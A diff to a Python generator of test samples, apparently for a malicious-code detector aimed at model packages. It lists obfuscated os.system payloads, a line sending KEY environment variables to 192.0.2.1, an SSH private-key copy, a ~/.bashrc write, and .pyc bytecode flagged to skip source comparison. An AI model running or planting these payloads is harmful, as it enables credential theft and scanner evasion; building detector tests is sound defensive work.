@@ -7,6 +7,7 @@ Written without knowledge of the detector, and not run.
 import base64
 import json
 import marshal
+import struct
 from collections.abc import Iterator
 from random import Random
 
@@ -20,7 +21,7 @@ _BODIES = (
     "import builtins\nbuiltins.__dict__['ev' + 'al'](\"__import__('os').system('touch acted')\")\n", "import sys\nsys.modules['o' + 's'].__dict__['sys' + 'tem']('touch acted')\n", "import ctypes\nctypes.CDLL(None).system(b'touch acted')\n", "class Config(type('X', (), {'__init_subclass__': lambda **k: __import__('os').system('touch acted')})):\n    pass\n",
     "def forward(x, _=__import__('os').system('touch acted')):\n    return x\n", "@__import__('os').system\n@lambda f: 'touch acted'\ndef forward(x):\n    return x\n", "from os import system as relu\nrelu('touch acted')\n", "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'] or 0\nimport subprocess as s\n[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0](['touch', 'acted'])\n",
     "import importlib\nimportlib.import_module('o' + 's').system('touch acted')\n", "x = 1" + " " * 400 + ";import os;os.system('touch acted')\n", "exec(bytes.fromhex('%s'))\n" % CODE.encode().hex(), "exec(''.join(map(chr, %s)))\n" % list(CODE.encode()), "import codecs\nexec(codecs.decode(%r, 'rot13'))\n" % "bcra('npgrq', 'j')", "import atexit, os\natexit.register(os.system, 'touch acted')\n",
-    "import threading, os\nthreading.Thread(target=os.system, args=('touch acted',)).start()\n", "import numpy as np\nnp.testing.assert_raises(OSError, __import__('os').system, 'touch acted')\n", "import types, marshal\ntypes.FunctionType(marshal.loads(%r), {})()\n" % b"\xe3\0", "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('true\\n')\n", "import os\nfor n in os.environ:\n    if 'KEY' in n:\n        __import__('urllib.request').request.urlopen('http://192.0.2.1/' + os.environ[n])\n", "import pathlib, shutil\nshutil.copy(pathlib.Path.home() / '.ssh' / 'id_rsa', 'x')\n", "from pip._internal import main\nmain(['install', 'evil'])\n", "from torch.utils.cpp_extension import load_inline\nload_inline('x', 'int f(){return 0;}')\n",
+    "import threading, os\nthreading.Thread(target=os.system, args=('touch acted',)).start()\n", "import numpy as np\nnp.testing.assert_raises(OSError, __import__('os').system, 'touch acted')\n", "import types, marshal\ntypes.FunctionType(marshal.loads(%r), {})()\n" % b"\xe3\0", "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('true\\n')\n", "import os\nfor n in os.environ:\n    if 'KEY' in n:\n        __import__('urllib.request').request.urlopen('http://192.0.2.1/' + os.environ[n])\n", "import pathlib, shutil\nshutil.copy(pathlib.Path.home() / '.ssh' / 'id_rsa', 'x')\n", "from pip._internal import main\nmain(['install', 'evil'])\n",
 )  # fmt: skip
 
 
@@ -37,7 +38,7 @@ def hidden_programs(rng: Random) -> Iterator[Sample]:
 
 
 def compiled_modules(rng: Random) -> Iterator[Sample]:
-    """Byte code beside the source, or in its place, and archives of modules."""
+    """Byte code in the place of a source, or beside one that it is never compared with."""
     for number in range(16):
         source = (
             rng.choice(
@@ -51,14 +52,13 @@ def compiled_modules(rng: Random) -> Iterator[Sample]:
             + f"\nx = {number}\n"
         )
         code = marshal.dumps(compile(source, "modeling.py", "exec"), 4)
-        pyc = b"\xa7\r\r\n" + bytes(12) + code
-        name = rng.choice(
-            ("modeling_x.pyc", "modeling_x.cpython-311.pyc", "__init__.pyc", "tokenization_x.pyo")
-        )
+        name = rng.choice(("modeling_x.pyc", "__init__.pyc", "__pycache__/modeling_x.cpython-311.pyc"))
+        flags = 1 if "__pycache__" in name else 0  # never compared with the source
+        pyc = b"\xa7\r\r\n" + struct.pack("<I", flags) + bytes(8) + code
         yield (
-            Sample(name=name, data=pyc)
+            Sample(name=name.rpartition("/")[2], data=pyc)
             if number % 2
-            else Sample(name="code.zip", data=stored_zip({f"__pycache__/{name}": pyc, "config.json": b"{}"}))
+            else Sample(name="code.zip", data=stored_zip({f"code/{name}": pyc, "config.json": b"{}"}))
         )
 
 
